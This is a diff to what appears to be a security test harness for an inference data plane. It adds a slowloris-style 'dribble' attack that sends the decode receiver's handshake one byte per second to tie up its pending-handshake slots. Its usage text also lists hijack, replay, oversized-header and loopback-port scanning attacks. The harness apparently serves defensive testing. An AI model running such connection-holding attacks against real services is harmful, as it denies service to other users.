@@ -8,6 +8,8 @@ one JSON line saying what it achieved. Attacks:
   dos        send a malformed manifest for the victim's request id, to fail it
   header     send a frame prefix announcing a 4 GiB header, and hold the connection open
   replay     send bytes recorded from another connection
+  dribble    answer decode's handshake challenge one byte a second, to hold one of its few pending-handshake
+             places for as long as each read alone is within the handshake timeout
   mooncake   read what decode's Mooncake receiver tells an unauthenticated peer (before authentication its hello
              named its engine's session and the regions it registered); then, for `--seconds`, find Mooncake
              engines on every listening loopback port (`/proc/net/tcp`, what `ss -ltn` shows any local user), ask
@@ -184,6 +186,30 @@ def header(args: argparse.Namespace) -> dict[str, Any]:
     return {"closed_by_peer": closed}
 
 
+def dribble(args: argparse.Namespace) -> dict[str, Any]:
+    s = socket.create_connection(_host_port(args.decode), timeout=5)
+    t0 = time.monotonic()
+    s.settimeout(5)
+    hello = s.recv(40, socket.MSG_WAITALL)  # the receiver's challenge: MAGIC and its nonce
+    _ready(args)
+    sent, held = 0, None
+    s.settimeout(1.0)
+    while time.monotonic() - t0 < args.seconds:
+        try:
+            s.send(b"\x00")
+            sent += 1
+            if s.recv(1) == b"":  # a read that ends: the receiver hung up
+                held = time.monotonic() - t0
+                break
+        except TimeoutError:
+            continue  # still open: a second passed, send the next byte
+        except OSError:
+            held = time.monotonic() - t0
+            break
+    s.close()
+    return {"hello_bytes": len(hello), "bytes_sent": sent, "held_s": held}
+
+
 def replay(args: argparse.Namespace) -> dict[str, Any]:
     data = bytes.fromhex(open(args.recording).read())
     host_port = _host_port(args.target)
@@ -246,7 +272,7 @@ def mooncake(args: argparse.Namespace) -> dict[str, Any]:
 
 def main() -> int:
     p = argparse.ArgumentParser()
-    p.add_argument("attack", choices=["hijack", "dos", "header", "replay", "mooncake"])
+    p.add_argument("attack", choices=["hijack", "dos", "header", "replay", "mooncake", "dribble"])
     p.add_argument("--server", default="")
     p.add_argument("--decode", default="", help="decode's data-plane address (tcp://... or mooncake://...)")
     p.add_argument("--target", default="", help="replay: tcp://host:port")
@@ -257,7 +283,8 @@ def main() -> int:
     p.add_argument("--min-rounds", type=int, default=1, help="mooncake: scan rounds to finish, however long they take")
     p.add_argument("--ready-file", default="", help="created once the attack is under way")
     args = p.parse_args()
-    result = {"hijack": hijack, "dos": dos, "header": header, "replay": replay, "mooncake": mooncake}[args.attack](args)
+    result = {"hijack": hijack, "dos": dos, "header": header, "replay": replay, "mooncake": mooncake,
+              "dribble": dribble}[args.attack](args)  # fmt: skip
     print(json.dumps(result, default=str), flush=True)
     sys.stdout.flush()
     os._exit(0)
